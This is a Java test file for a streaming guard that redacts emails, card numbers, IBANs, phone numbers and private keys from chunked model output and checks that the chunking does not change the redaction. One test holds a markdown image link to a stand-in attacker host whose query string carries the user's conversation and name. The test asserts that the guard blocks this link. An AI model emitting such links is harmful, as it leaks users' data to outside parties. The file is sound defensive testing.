package io.bulwark.guard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.bulwark.guard.privacy.PrivacyGuard;
import io.bulwark.guard.security.SecurityGuard;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.StringLength;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class GuardStreamTest {
    private static final GuardEngine ENGINE =
            new GuardEngine(List.of(SecurityGuard.standard(), PrivacyGuard.standard()));
    private static final Set<String> ALL = Set.of("security", "privacy");
    private static final String PROSE =
            "The committee met on the first floor and spoke for a long while about the garden, the old gate and the"
                    + " trees along the river, which had grown well in the wet spring. ";
    private static final Exchange ASKED = Exchange.input("Tell me.");

    private record Streamed(String text, Outcome outcome, boolean stopped, List<String> steps) {}

    private static Streamed stream(Policy policy, Set<String> guards, Vault vault, List<String> chunks) {
        GuardStream stream = ENGINE.stream(ASKED, policy, guards, vault);
        StringBuilder text = new StringBuilder();
        List<String> steps = new ArrayList<>();
        for (String chunk : chunks) {
            GuardStream.Step step = stream.accept(chunk);
            text.append(step.text());
            steps.add(step.text());
            if (step.stopped()) {
                return new Streamed(text.toString(), step.outcome(), true, steps);
            }
        }
        GuardStream.Step last = stream.finish();
        steps.add(last.text());
        return new Streamed(text.append(last.text()).toString(), last.outcome(), last.stopped(), steps);
    }

    private static Streamed stream(List<String> chunks) {
        return stream(Policy.DEFAULT, ALL, new Numbered(), chunks);
    }

    private static List<String> split(String text, int at) {
        return List.of(text.substring(0, at), text.substring(at));
    }

    private static List<String> tokens(String text, int size) {
        List<String> chunks = new ArrayList<>();
        for (int i = 0; i < text.length(); i += size) {
            chunks.add(text.substring(i, Math.min(text.length(), i + size)));
        }
        return chunks;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "mia.lindholm@example.org",
                "4111 1111 1111 1111",
                "DE89 3704 0044 0532 0130 00",
                "+44 20 7946 0958"
            })
    void a_value_split_anywhere_never_leaves_in_part(String value) {
        String text = PROSE + PROSE + PROSE + "Reach it at " + value + " today. " + PROSE + PROSE;
        int from = text.indexOf(value);
        for (int at = from - 2; at <= from + value.length() + 2; at++) {
            Streamed whole = stream(split(text, at));
            assertThat(whole.text()).as("split at %d", at).doesNotContain(value).contains("Reach it at [");
        }
        for (int size : new int[] {1, 3, 7, 64, 200}) {
            Streamed streamed = stream(tokens(text, size));
            String head = value.substring(0, 8);
            assertThat(streamed.text()).as("chunks of %d", size).doesNotContain(head);
            assertThat(streamed.text()).startsWith(PROSE).endsWith(PROSE);
        }
    }

    @Test
    void a_private_key_of_many_lines_is_held_until_its_last_line() {
        String body = "MIIEpAIBAAKCAQEA7bq1x0Zk3vLr9s8e2uYp5tHnWcXoJdGfQaSmRzTyUiOpLkJh\n".repeat(20);
        String key = "-----BEGIN RSA PRIVATE " + "KEY-----\n" + body + "-----END RSA PRIVATE " + "KEY-----";
        String text = PROSE + PROSE + key + "\n" + PROSE;

        Streamed streamed = stream(tokens(text, 5));

        assertThat(streamed.text())
                .doesNotContain("MIIEpAIBAAKCAQEA")
                .startsWith(PROSE)
                .endsWith(PROSE);
    }

    @Test
    void an_image_that_carries_data_away_is_stopped_before_it_leaves() {
        String text = PROSE + PROSE + PROSE
                + "![chart of the quarter](https://collect.evil-host.example/p.png?d=the+user+asked+about+the+garden+gate"
                + "+and+said+their+name+is+Mia)" + PROSE;
        Policy block = Policy.read("name: p\nguards: {security: {action: block, act_from: low}}");

        for (int size : new int[] {1, 4, 50, 500}) {
            Streamed streamed = stream(block, ALL, new Numbered(), tokens(text, size));

            assertThat(streamed.stopped()).isTrue();
            assertThat(streamed.text()).doesNotContain("evil-host");
            assertThat(streamed.outcome().verdict()).isEqualTo(Verdict.BLOCK);
        }
    }

    @Test
    void text_leaves_while_more_is_coming() {
        String text = PROSE.repeat(20);

        Streamed streamed = stream(tokens(text, 4));

        assertThat(streamed.text()).isEqualTo(text);
        int half = streamed.steps().size() / 2;
        int early = streamed.steps().subList(0, half).stream()
                .mapToInt(String::length)
                .sum();
        assertThat(early).isGreaterThan(text.length() / 2 - 500);
    }

    @Property(tries = 60, seed = "20261121")
    void with_guards_off_a_stream_is_the_same_byte_for_byte(
            @ForAll @StringLength(max = 400) String text, @ForAll Random random) {
        List<String> chunks = randomly(text, random);

        Streamed streamed = stream(Policy.DEFAULT, Set.of(), new Numbered(), chunks);

        assertThat(streamed.text()).isEqualTo(text);
    }

    @Property(tries = 60, seed = "20261122")
    void nothing_is_lost_or_doubled_however_a_stream_is_cut(
            @ForAll @StringLength(max = 600) String text, @ForAll Random random) {
        Policy watching = Policy.read("name: w\nmonitor_only: true");

        Streamed streamed = stream(watching, ALL, new Numbered(), randomly(text, random));

        assertThat(streamed.text()).isEqualTo(text);
    }

    @Property(tries = 60, seed = "20261123")
    void the_cut_of_a_stream_changes_no_redaction(@ForAll Random random) {
        String text = PROSE + "Mail tom@example.org. " + PROSE + "😀 Card 5500 0055 5555 5559! " + PROSE + PROSE
                + " and tom@example.org again.";
        String expected = ENGINE.check(
                        new Exchange("Tell me.", text, List.of(), List.of(), null, null), Policy.DEFAULT, ALL)
                .processed()
                .get("output");

        Streamed streamed = stream(randomly(text, random));

        assertThat(streamed.text()).isEqualTo(expected);
    }

    @Test
    void placeholders_of_the_vault_are_undone_last_wherever_they_are_split() {
        String text =
                PROSE + "I wrote to [EMAIL_ADDRESS_1] and [EMAIL_ADDRESS_9]. See [1] and [a]. Also new@example.net. ["
                        + PROSE;
        for (int size = 1; size < 40; size++) {
            Numbered vault = new Numbered();
            vault.placeholder("EMAIL_ADDRESS", "mia@example.org");

            Streamed streamed = stream(Policy.DEFAULT, ALL, vault, tokens(text, size));

            assertThat(streamed.text())
                    .isEqualTo(text.replace("[EMAIL_ADDRESS_1]", "mia@example.org")
                            .replace("new@example.net", "[EMAIL_ADDRESS_2]"));
        }
    }

    @Test
    void a_guard_that_needs_the_whole_answer_holds_it_when_it_may_stop_it_and_judges_after_it_otherwise() {
        Guard needy = new Guard() {
            @Override
            public String name() {
                return "trust";
            }

            @Override
            public Report check(Inspection inspection) {
                Passage output = inspection.passage("output");
                List<Finding> found = output.text().value().contains("wrong")
                        ? List.of(Finding.at(output, 0, 1, "WRONG", Severity.HIGH, 1, "t", "Do not."))
                        : List.of();
                return new Report(found.isEmpty() ? 0 : 1, found, List.of(), Map.of(), null);
            }
        };
        GuardEngine engine = new GuardEngine(List.of(needy));
        Policy block = Policy.read("name: b\nguards: {trust: {action: block}}");

        GuardStream held = engine.stream(ASKED, block, Set.of("trust"), new Numbered());
        GuardStream after = engine.stream(ASKED, Policy.DEFAULT, Set.of("trust"), new Numbered());

        assertThat(held.modes()).containsEntry("trust", GuardStream.Mode.HOLD);
        assertThat(after.modes()).containsEntry("trust", GuardStream.Mode.AFTER);
        assertThat(held.accept(PROSE + "wrong").text()).isEmpty();
        GuardStream.Step stopped = held.finish();
        assertThat(stopped.stopped()).isTrue();
        assertThat(stopped.text()).isEmpty();
        assertThat(after.accept(PROSE + "wrong").text()).isEqualTo(PROSE + "wrong");
        assertThat(after.finish().outcome().verdict()).isEqualTo(Verdict.FLAG);
        assertThatThrownBy(() -> after.accept("x")).isInstanceOf(IllegalStateException.class);
    }

    @Test
    void a_policy_says_how_a_guard_streams_and_another_word_is_a_fault() {
        Policy hold = Policy.read("name: h\nguards: {privacy: {options: {stream: hold}}}");

        assertThat(ENGINE.stream(ASKED, hold, ALL, new Numbered()).modes())
                .containsEntry("privacy", GuardStream.Mode.HOLD);
        assertThatThrownBy(() -> Policy.read("name: h\nguards: {privacy: {options: {stream: never}}}"))
                .isInstanceOf(PolicyException.class)
                .hasMessageContaining("stream");
    }

    private static List<String> randomly(String text, Random random) {
        List<String> chunks = new ArrayList<>();
        for (int i = 0; i < text.length(); ) {
            int end = Math.min(text.length(), i + 1 + random.nextInt(random.nextBoolean() ? 4 : 90));
            chunks.add(text.substring(i, end));
            i = end;
        }
        return chunks;
    }

    /** A vault as plain as can be. */
    private static final class Numbered implements Vault {
        private final Map<String, String> values = new HashMap<>();
        private final Map<String, String> names = new HashMap<>();
        private final Map<String, Integer> last = new HashMap<>();

        @Override
        public String placeholder(String category, String value) {
            return names.computeIfAbsent(category + value, k -> {
                String name = "[" + category + "_" + last.merge(category, 1, Integer::sum) + "]";
                values.put(name, value);
                return name;
            });
        }

        @Override
        public String restore(String text) {
            String restored = text;
            for (Map.Entry<String, String> entry : values.entrySet()) {
                restored = restored.replace(entry.getKey(), entry.getValue());
            }
            return restored;
        }
    }
}
